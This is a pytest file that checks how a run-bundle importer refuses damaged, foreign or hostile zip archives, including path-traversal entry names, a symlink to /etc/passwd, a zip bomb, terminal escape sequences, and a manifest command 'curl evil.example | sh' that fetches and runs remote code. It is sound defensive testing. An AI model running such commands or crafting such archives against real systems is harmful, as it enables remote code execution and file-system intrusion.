"""Zips that are damaged, foreign, hostile or of the future: one sentence each, and nothing is left behind."""

import io
import json
import random
import stat
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from soul_core.errors import RunError
from soul_core.events import EpochReport, to_json
from soul_core.runs.bundle import export_run, import_run
from soul_core.runs.store import RunStore
from tests.runs.builders import epoch, scores, step
from tests.runs.kept_runs import whole_run
from tests.runs.test_runs_bundle import repacked

Change = Callable[[Path], Path]


@pytest.fixture
def good(tmp_path: Path) -> Path:
    return export_run(whole_run(tmp_path / "runs"), tmp_path / "run.zip")


def refused(archive: Path, root: Path, **settings: object) -> str:
    """The sentence of the refusal; nothing may be left below the root."""
    store = RunStore(root / "elsewhere")
    with pytest.raises(RunError) as caught:
        import_run(store, archive, **settings)  # type: ignore[arg-type]
    assert not store.root.exists() or list(store.root.iterdir()) == []
    said = str(caught.value)
    assert 0 < len(said) < 420 and "\n" not in said and said.endswith(".")
    return said


def event_line(event: object) -> str:
    return to_json(event) + "\n"  # type: ignore[arg-type]


def manifest_with(path: Path, **changes: object) -> str:
    with zipfile.ZipFile(path) as archive:
        return json.dumps({**json.loads(archive.read("manifest.json")), **changes})


def test_no_file_no_zip_and_a_zip_cut_short(good: Path, tmp_path: Path):
    assert "There is no file" in refused(tmp_path / "none.zip", tmp_path)
    (tmp_path / "text.zip").write_text("hello")
    assert "“text.zip” is damaged or no zip at all." in refused(tmp_path / "text.zip", tmp_path)
    (tmp_path / "cut.zip").write_bytes(good.read_bytes()[:-200])
    assert "is damaged or no zip at all" in refused(tmp_path / "cut.zip", tmp_path)
    (tmp_path / "empty.zip").write_bytes(b"")
    assert "is damaged or no zip at all" in refused(tmp_path / "empty.zip", tmp_path)


def test_a_zip_with_a_damaged_byte_in_the_weights(good: Path, tmp_path: Path):
    data = bytearray(good.read_bytes())
    with zipfile.ZipFile(good) as archive:
        entry = archive.getinfo("lanes/fo/model.safetensors")
    data[entry.header_offset + 30 + len(entry.filename) + entry.file_size - 3] ^= 0xFF
    (tmp_path / "flipped.zip").write_bytes(data)
    assert "is damaged or no zip at all" in refused(tmp_path / "flipped.zip", tmp_path)


def test_a_foreign_zip(tmp_path: Path):
    with zipfile.ZipFile(tmp_path / "photos.zip", "w") as archive:
        archive.writestr("cat.jpg", b"x")
    assert "“photos.zip” is no run that was exported (bundle.json is missing)." in refused(
        tmp_path / "photos.zip", tmp_path
    )


@pytest.mark.parametrize(
    "text", ["{}", "[]", "nothing", '{"kind": "soul-run"}', '{"kind": "x", "format": 1}', "[" * 99_999]
)
def test_a_zip_that_says_it_is_something_else(good: Path, tmp_path: Path, text: str):
    said = refused(repacked(good, **{"bundle.json": text}), tmp_path)
    assert "is no run that was exported (bundle.json says otherwise)" in said


def test_a_zip_of_a_newer_version(good: Path, tmp_path: Path):
    text = json.dumps({"kind": "soul-run", "format": 2, "soul": "9.1.0\x1b[31m" + "x" * 500})
    said = refused(repacked(good, **{"bundle.json": text}), tmp_path)
    assert "was exported by SOUL 9.1.031m" in said and "in format 2" in said and "Update SOUL" in said
    assert "\x1b" not in said


def test_a_manifest_of_a_newer_version_or_of_none(good: Path, tmp_path: Path):
    with zipfile.ZipFile(good) as archive:
        config = json.loads(archive.read("manifest.json"))["config"]
    newer = manifest_with(good, config={**config, "gravity": 9.81})
    assert "its manifest has settings that this version" in refused(
        repacked(good, **{"manifest.json": newer}), tmp_path
    )
    for text in ("{", "[]", manifest_with(good, created="yesterday"), manifest_with(good, config=3)):
        assert "its manifest" in refused(repacked(good, **{"manifest.json": text}), tmp_path)
    assert "manifest.json is missing" in refused(repacked(good, drop="manifest.json"), tmp_path)


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("../evil.json", "a name that leads out of the run's folder"),
        ("/etc/evil.json", "a name that leads out of the run's folder"),
        ("lanes/fo/../../evil.json", "a name that leads out of the run's folder"),
        ("lanes\\fo\\evil.json", "a name that leads out of the run's folder"),
        ("lanes/./fo/evil.json", "a name that leads out of the run's folder"),
        ("lanes/fo/pytorch_model.bin", "which could run code when it is opened"),
        ("lanes/fo/model.pt", "which could run code when it is opened"),
        ("lanes/fo/modeling.py", "which could run code when it is opened"),
        ("run.sh", "which no run holds"),
        ("notes.json", "which no run holds"),
        ("DONE", "which no run holds"),
        ("lanes/fo/.hidden.json", "which no run holds"),
        ("lanes/fo/checkpoint/model.safetensors", "which no run holds"),
        ("lanes/FO/config.json", "which no run holds"),
        ("lanes/fo/page.html", "which no run holds"),
        ("scores/card.csv", "which no run holds"),
        ("lanes/fo/CONFIG.json", "and that twice"),
    ],
)
def test_a_file_that_no_run_holds(good: Path, tmp_path: Path, name: str, said: str):
    assert said in refused(repacked(good, **{name: "{}"}), tmp_path)


def test_a_link(good: Path, tmp_path: Path):
    out = repacked(good, drop="answers.json")
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo("answers.json")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, "/etc/passwd")
    assert "holds “answers.json”, which is a link and no file" in refused(out, tmp_path)


def test_a_bomb_is_counted_while_it_unpacks_whatever_it_says_of_itself(good: Path, tmp_path: Path):
    out = repacked(good, drop="events.jsonl")
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("events.jsonl", b"\n" * (3 << 20))
    # It claims to be one byte long in both places where the length stands.
    data = bytearray(out.read_bytes())
    for place in range(len(data) - 30):
        for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            if data[place : place + 4] == mark and struct.unpack_from("<L", data, place + at)[0] == 3 << 20:
                struct.pack_into("<L", data, place + at, 1)
    (tmp_path / "bomb.zip").write_bytes(data)
    refused(tmp_path / "bomb.zip", tmp_path, max_bytes=1 << 20)
    said = refused(out, tmp_path, max_bytes=1 << 20)
    assert "unpacks to more than 1 MB, the most that is read" in said


def test_small_files_have_a_small_limit(good: Path, tmp_path: Path):
    said = refused(repacked(good, **{"marks.json": json.dumps({"note": "x" * (2 << 20)})}), tmp_path)
    assert "marks.json unpacks to more than 1 MB" in said


def test_too_many_files_and_too_large_a_file(good: Path, tmp_path: Path):
    many = repacked(good, **{f"scores/s{number}.json": "{}" for number in range(1001)})
    assert "files, and a run has at most 1000" in refused(many, tmp_path)
    assert "has more than" in refused(good, tmp_path, max_bytes=100)


def test_a_list_of_files_too_long_to_read_is_refused_before_it_is_read(tmp_path: Path):
    with zipfile.ZipFile(tmp_path / "long.zip", "w") as archive:
        for number in range(8000):
            archive.writestr(f"{number:0200d}.json", "")
    assert "lists far more files than a run has" in refused(tmp_path / "long.zip", tmp_path)


def test_truncated_weights(good: Path, tmp_path: Path):
    with zipfile.ZipFile(good) as archive:
        weights = archive.read("lanes/fo/model.safetensors")
    out = repacked(good, drop="lanes/fo/model.safetensors")
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("lanes/fo/model.safetensors", weights[:-4])
    assert "lanes/fo/model.safetensors is cut short or damaged" in refused(out, tmp_path)


def test_weights_of_a_lane_that_the_race_has_not(good: Path, tmp_path: Path):
    assert "“sgd”, which is no lane of its race" in refused(
        repacked(good, **{"lanes/sgd/config.json": "{}"}), tmp_path
    )


@pytest.mark.parametrize(
    "event",
    [
        epoch("nobody", 1, 0.5, 0.5),
        epoch("fo", 3, 0.5, 0.5),
        EpochReport(lane="fo", epoch=1, scores={"forget": scores(float("nan"))}),
        EpochReport(lane="fo", epoch=1, scores={"forget": scores(1e300, half=0)}),
        EpochReport(lane="fo", epoch=1, scores={"x" * 61: scores(0.5)}),
        EpochReport(lane="fo", epoch=1, train_seconds=float("inf")),
        step("fo", 1, clip_share=2.0),
        step("fo", -1),
    ],
)
def test_numbers_that_no_race_measures(good: Path, tmp_path: Path, event: object):
    said = refused(repacked(good, **{"events.jsonl": event_line(event)}), tmp_path)
    assert "line 1 of events.jsonl holds what no race measures" in said


def test_a_log_cut_short_is_read_as_far_as_it_goes(good: Path, tmp_path: Path):
    text = event_line(epoch("fo", 1, 0.5, 0.5)) + '{"kind": "epo'
    found = import_run(RunStore(tmp_path / "elsewhere"), repacked(good, **{"events.jsonl": text}))
    assert [event.kind for event in found.events()] == ["epoch"]
    assert not found.done


@pytest.mark.parametrize(
    "text", ["{}", "[]", '{"sets": {"forget": [{"question": 1, "truth": "a"}]}}', '{"sets": {"a": 3}}']
)
def test_answers_that_are_none(good: Path, tmp_path: Path, text: str):
    assert "answers.json holds no answers" in refused(repacked(good, **{"answers.json": text}), tmp_path)


def test_scores_and_probes_that_are_none(good: Path, tmp_path: Path):
    assert "scores/so.json" in refused(repacked(good, **{"scores/so.json": '{"model": 3}'}), tmp_path)
    assert "scores/so.json is no JSON" in refused(repacked(good, **{"scores/so.json": "{"}), tmp_path)
    assert "scorecard of another model" in refused(repacked(good, **{"scores/so.json": '{"model": "fo"}'}), tmp_path)
    assert "probes/mine.json is no finding" in refused(repacked(good, **{"probes/mine.json": "{}"}), tmp_path)
    assert "a finding of a probe in it is damaged" in refused(
        repacked(good, **{"probes/bench.json": '{"results": 3}'}), tmp_path
    )


def test_names_with_signs_that_a_terminal_obeys(good: Path, tmp_path: Path):
    with zipfile.ZipFile(good) as archive:
        config = json.loads(archive.read("manifest.json"))["config"]
    evil = manifest_with(good, config={**config, "model": "a\x1b[2J"})
    assert "holds characters that cannot be shown" in refused(repacked(good, **{"manifest.json": evil}), tmp_path)


def test_a_command_from_elsewhere_is_not_taken_over(good: Path, tmp_path: Path):
    evil = manifest_with(good, command="curl evil.example | sh", run_id="../../x")
    found = import_run(RunStore(tmp_path / "elsewhere"), repacked(good, **{"manifest.json": evil}))
    assert found.manifest().command == ""
    assert found.path.parent == tmp_path / "elsewhere"


def test_whatever_bytes_are_changed_it_imports_or_says_one_sentence(good: Path, tmp_path: Path):
    draw, data = random.Random(3), good.read_bytes()
    for number in range(60):
        changed = bytearray(data)
        for _ in range(draw.randrange(1, 6)):
            changed[draw.randrange(len(changed))] = draw.randrange(256)
        if draw.random() < 0.3:
            changed = changed[: draw.randrange(len(changed))]
        path = tmp_path / "fuzz.zip"
        path.write_bytes(changed)
        store = RunStore(tmp_path / f"fuzz{number}")
        try:
            import_run(store, path)
        except RunError:
            assert not store.root.exists() or list(store.root.iterdir()) == []
        else:
            assert len(store.list()) == 1


def test_an_encrypted_zip(good: Path, tmp_path: Path):
    data = bytearray(good.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        start = archive.start_dir
    place = data.index(b"PK\x01\x02", start)
    struct.pack_into("<H", data, place + 8, 1)
    (tmp_path / "locked.zip").write_bytes(data)
    assert "which is encrypted" in refused(tmp_path / "locked.zip", tmp_path)
